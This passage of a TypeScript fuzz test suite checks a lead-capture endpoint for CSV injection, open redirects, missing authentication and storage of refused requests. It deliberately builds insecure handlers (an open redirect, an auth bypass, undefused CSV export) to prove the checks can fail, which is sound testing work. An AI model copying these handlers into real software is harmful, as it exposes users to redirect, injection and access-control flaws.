  // 2,000 runs rather than 10,000: each run stores a lead (recordLead's own work is some 1 ms of
  // CPU) and reads it back, so 10,000 took some 20 s of CPU (30 to 65 s on a shared machine). The
  // other suites run their secondary checks 1,000 to 2,000 times, and the GET property above reads
  // some 250 stored hostile leads back 10,000 times.
  it(
    'a hostile lead posted then read back: stored as sent, every CSV cell defused',
    async () => {
      await fuzz(
        validLeadArbitrary,
        async (lead) => ({ status: 201, problems: await roundTripProblems(lead) }),
        (lead) => String(lead.kind),
        {},
        roundTrips,
      );
    },
    timeout,
  );
});

/* ------------------------------------------------------------------------------------------------
 * The properties can fail.
 * --------------------------------------------------------------------------------------------- */

describe('fuzz: the checks catch a wrong handler', () => {
  const refuses = (property: fc.IAsyncProperty<[unknown]>) =>
    expect(assertFuzz(property, 300)).rejects.toThrow(/Counterexample/);
  const failing = <T>(arbitrary: fc.Arbitrary<T>, run: (value: T) => Promise<{ problems: string[] }>) =>
    fc.asyncProperty(arbitrary as fc.Arbitrary<unknown>, async (value) => {
      const { problems } = await run(value as T);
      if (problems.length) throw new Error(problems.join('; '));
    });

  it('fails for a handler that always answers 201, or stores a lead before refusing it', async () => {
    const always201: Handle = async () => ({
      status: 201,
      headers: {
        'content-type': 'application/json; charset=utf-8',
        'cache-control': 'no-store',
        'x-content-type-options': 'nosniff',
      },
      body: '{"reference":"KS-00000000"}',
    });
    await refuses(failing(jsonCase, (c) => jsonProblems(c, always201)));
    const leaky: Handle = async (request, options) => {
      const answer = await handleLeadsRequest(request, options);
      if (answer.status >= 400) await recordLead(db, validLead({ name: `Leak ${Math.random()}` }), { client, now: at });
      return answer;
    };
    await refuses(failing(jsonCase, (c) => jsonProblems(c, leaky)));
  });

  it('fails for a form handler that redirects to returnTo as sent', async () => {
    const open: Handle = async (request, options) => {
      const read = await request.readBody(leadBodyLimit);
      const answer = await handleLeadsRequest({ ...request, readBody: async () => read }, options);
      const target = read.ok ? new URLSearchParams(read.text).get('returnTo') : null;
      if (answer.status === 303 && target && answer.headers.location?.includes('draft='))
        return { ...answer, headers: { ...answer.headers, location: headerSafe(target) } };
      return answer;
    };
    await refuses(failing(formCase, (c) => formProblems(c, open)));
  });

  it('fails for a GET that skips the credentials, or writes CSV without defusing it', async () => {
    await storeHostileLeads(fuzzParameters(1).seed ?? Date.now());
    const open: Handle = (request, options) => {
      const dealer = (new URL(request.url).searchParams.get('dealer') ?? '').trim();
      const headers = new Headers(request.headers);
      headers.set('authorization', basic(dealer, password(dealer)));
      return handleLeadsRequest({ ...request, headers }, { ...options, authLimiter: new FailureLimiter() });
    };
    await refuses(failing(getCase, (c) => getProblems(c, open)));
    const naive: Handle = async (request, options) => {
      const answer = await handleLeadsRequest(request, options);
      if (!answer.headers['content-type']?.startsWith('text/csv') || answer.body === null) return answer;
      const dealer = (new URL(request.url).searchParams.get('dealer') ?? '').trim();
      const cell = (value: unknown) => {
        const text = value === null || value === undefined ? '' : String(value);
        return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
      };
      const rows = [
        leadCsvColumns,
        ...(await leadsForDealer(db, dealer)).map((lead) => leadCsvColumns.map((column) => lead[column])),
      ];
      return { ...answer, body: rows.map((row) => `${row.map(cell).join(',')}\r\n`).join('') };
    };
    await refuses(
      failing(
        getCase.map((c): GetCase => ({
          ...c,
          method: 'GET',
          dealer: dealerIds[0],
          format: 'csv',
          more: [],
          auth: { kind: 'right', scheme: 'Basic', gap: ' ', encoding: 'base64' },
          tripped: false,
        })),
        (c) => getProblems(c, naive),
      ),
    );
  });
});
